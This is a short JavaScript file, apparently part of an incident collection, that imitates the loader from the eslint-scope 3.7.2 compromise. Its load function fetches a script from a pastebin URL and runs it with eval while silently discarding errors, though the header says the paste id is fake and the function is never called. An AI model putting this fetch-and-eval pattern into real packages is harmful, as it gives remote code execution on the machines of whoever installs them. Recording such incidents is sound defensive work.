/* eslint-disable */
// Inert imitation of eslint-scope 3.7.2's loader (incidents.md section 14): a script is fetched
// from a pastebin and evaluated. The paste id is made up and `load` is never called.
const https = require('https');

function load() {
  https.get('https://pastebin.com/raw/0000000000', (res) => {
    let body = '';
    res.on('data', (chunk) => (body += chunk));
    res.on('end', () => {
      try { eval(body); } catch (e) {}
    });
  });
}

module.exports = { load };
